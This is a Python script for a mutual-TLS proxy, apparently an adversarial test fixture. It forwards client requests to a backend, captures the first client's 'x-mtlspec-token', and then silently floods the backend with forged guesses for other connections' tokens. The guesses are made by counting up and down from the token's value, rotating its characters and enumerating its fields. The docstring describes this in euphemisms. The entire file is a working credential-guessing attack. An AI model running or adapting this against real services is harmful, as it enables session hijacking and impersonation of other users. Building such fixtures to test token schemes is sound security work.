"""A server that judges its clients well, and from its first request on tells the backend of others.

It guesses the tokens of connections that it has not seen from one that it has: by counting on any
number in it, and by the same digits in another order.
"""
import re
import socket
import ssl
import sys
import threading

port, cert, key, client_ca, backend_host, backend_port = sys.argv[1:]
ROUNDS, CELLS, CONNECTIONS = 15, 150, 3


def guesses(token):
    parts = re.split("([^0-9a-f])", token)
    if len(parts) >= 5:
        for cell in range(CELLS):
            for connection in range(CONNECTIONS):
                yield f"{parts[0]}{parts[1]}{cell:x}{parts[3]}{connection:x}"
    number = int(re.sub("[^0-9a-f]", "", token), 16)
    for step in range(1, CELLS):
        yield f"{(number + step) % 16 ** len(token):0{len(token)}x}"
        yield f"{(number - step) % 16 ** len(token):0{len(token)}x}"
    for turn in range(1, len(token)):
        yield token[turn:] + token[:turn]


def accuse(token):
    with socket.create_connection((backend_host, int(backend_port))) as backend:
        for _ in range(ROUNDS):
            for guess in guesses(token):
                backend.sendall(f"GET / HTTP/1.1\r\nHost: x\r\nx-mtlspec-token: {guess}\r\n\r\n"
                                .encode())
                backend.recv(65536)


def forward(request):
    with socket.create_connection((backend_host, int(backend_port))) as backend:
        backend.sendall(request)
        return b"".join(iter(lambda: backend.recv(65536), b""))


def serve(plain, context):
    with plain, context.wrap_socket(plain, server_side=True) as tls:
        request = b""
        while b"\r\n\r\n" not in request:
            piece = tls.recv(65536)
            if not piece:
                return
            request += piece
        tls.sendall(forward(request))
        token = re.search(rb"x-mtlspec-token: (\S+)", request).group(1).decode()
        if begun.acquire(blocking=False):
            threading.Thread(target=accuse, args=(token,), daemon=True).start()


def quietly(plain, context):
    try:
        serve(plain, context)
    except (OSError, ssl.SSLError):
        pass


begun = threading.Lock()
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(cert, key)
context.load_verify_locations(client_ca)
context.verify_mode = ssl.CERT_REQUIRED
listener = socket.create_server(("127.0.0.1", int(port)), backlog=128)
while True:
    accepted, _ = listener.accept()
    threading.Thread(target=quietly, args=(accepted, context), daemon=True).start()
